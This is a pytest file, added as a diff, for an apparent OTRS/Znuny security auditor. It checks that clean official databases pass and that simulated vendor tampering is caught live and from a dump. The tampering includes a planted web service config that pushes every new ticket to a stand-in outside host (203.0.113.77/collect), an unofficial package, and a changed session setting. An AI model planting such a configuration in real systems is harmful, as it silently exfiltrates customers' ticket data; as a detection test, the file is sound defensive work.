@@ -1,0 +1,96 @@
+"""--database on real OTRS 6.0.x, Znuny LTS 6.0.x and Znuny 7.0.x: each release's own official schema and
+initial data (scripts/database/ of the release) loaded into a private PostgreSQL and a private MariaDB,
+with the deployment the install wrote; then the vendor's tampering, caught identically live and from the
+server's dump."""
+
+from __future__ import annotations
+
+import sys
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+sys.path.insert(0, str(ROOT / "tests"))
+sys.path.insert(0, str(ROOT / "sample_installs"))
+import dbservers  # noqa: E402
+import sampledesk_database as sdb  # noqa: E402
+
+DB_CATEGORIES = ("outbound-endpoint", "unofficial-package", "package-file-modified", "deployment-mismatch",
+                 "unreadable-database")
+
+
+@pytest.fixture(scope="module", params=["postgresql", "mariadb"])
+def server(request):
+    started = getattr(dbservers, request.param)()
+    if isinstance(started, str):
+        pytest.skip(started)
+    yield started
+    started.stop()
+
+
+def _official_sql(tree: Path, engine: str) -> str:
+    """The release's own schema, initial data and post-schema (foreign keys), in the installer's order."""
+    d = tree / "scripts/database"
+    prefix = "otrs-" if (d / f"otrs-schema.{engine}.sql").exists() else ""
+    return "".join((d / f"{prefix}{part}.{engine}.sql").read_text(encoding="utf-8")
+                   for part in ("schema", "initial_insert", "schema-post"))
+
+
+def _releases(real):
+    out = []
+    for product, line in (("otrs", "6.0"), ("znuny-lts", "6.0"), ("znuny", "7.0")):
+        rel = real.newest(product, line)
+        if rel is not None:
+            out.append(rel)
+    return out
+
+
+def _db(report):
+    return {(f["check"], f["category"], f["severity"], f["path"], f["message"]) for f in report["findings"]
+            if f["category"] in DB_CATEGORIES}
+
+
+def test_official_databases_are_clean_and_tampering_is_caught_live_and_from_the_dump(real, server, tmp_path):
+    engine = "postgresql" if server.engine == "postgresql" else "mysql"
+    figures = real.figures.setdefault("database", {})
+    for rel in _releases(real):
+        tree = real.install(rel, f"db-{server.engine}-{rel.key}")
+        zzz = (tree / "Kernel/Config/Files/ZZZAAuto.pm").read_bytes()
+        server.load(_official_sql(rel.tree, engine) + sdb.deployment(engine, zzz))
+        clean, rc = real.audit(tree, "--database", server.dsn())
+        assert _db(clean) == set(), f"{rel.key}: {sorted(_db(clean))[:5]}"
+        assert clean["database"]["deployment"]["same"] is True
+        tables = clean["database"]["tables"]
+        assert tables > 100, tables
+        # the vendor: a web service that pushes every ticket home, its own package (one file of which it
+        # edited on disk after installing), and a setting changed in ZZZAAuto.pm behind the GUI's back
+        ws_yaml = ("---\nDescription: ticket sync\nRequester:\n  Invoker:\n    Push:\n      Events:\n"
+                   "      - Asynchronous: '1'\n        Event: TicketCreate\n      Type: Test::Test\n"
+                   "  Transport:\n    Config:\n      Host: http://203.0.113.77/collect\n    Type: HTTP::REST\n")
+        module = b"package Kernel::System::VendorSync;\nuse strict;\nsub Run { return 1 }\n1;\n"
+        opm = sdb.package_xml("VendorSync", "2.0.1", "Grey Market GmbH", {"Kernel/System/VendorSync.pm": module})
+        server.sql(sdb.webservice(engine, "VendorSync", ws_yaml) + sdb.package(engine, "VendorSync", "2.0.1",
+                                                                              "Grey Market GmbH", opm),
+                   **({"user": dbservers.USER} if server.engine == "postgresql" else {}))
+        (tree / "Kernel/System/VendorSync.pm").write_bytes(module.replace(b"return 1", b"return 0"))
+        text = (tree / "Kernel/Config/Files/ZZZAAuto.pm").read_text()
+        assert "$Self->{'SessionMaxTime'} =  '57600';" in text, rel.key
+        (tree / "Kernel/Config/Files/ZZZAAuto.pm").write_text(
+            text.replace("$Self->{'SessionMaxTime'} =  '57600';", "$Self->{'SessionMaxTime'} =  '999999';"))
+        live, rc = real.audit(tree, "--database", server.dsn())
+        assert rc == 1
+        got = _db(live)
+        cats = {(c, p) for _i, c, _s, p, _m in got}
+        assert ("outbound-endpoint", None) in cats and ("unofficial-package", None) in cats
+        assert ("package-file-modified", "Kernel/System/VendorSync.pm") in cats
+        assert ("deployment-mismatch", "Kernel/Config/Files/ZZZAAuto.pm") in cats
+        mismatch = [m for _i, c, _s, _p, m in got if c == "deployment-mismatch"]
+        assert mismatch[0].endswith(": SessionMaxTime")
+        push = [m for _i, c, s, _p, m in got if c == "outbound-endpoint"]
+        assert any("web service VendorSync talks to http://203.0.113.77/collect" in m for m in push)
+        dump = server.dump(tmp_path / f"{rel.key}.sql")
+        from_dump, rc_dump = real.audit(tree, "--database", dump)
+        assert _db(from_dump) == got and rc_dump == rc
+        figures[f"{server.engine} {rel.key}"] = {"tables": tables, "clean": True, "caught": sorted(c for c, _p in cats),
+                                                 "dump_bytes": dump.stat().st_size}
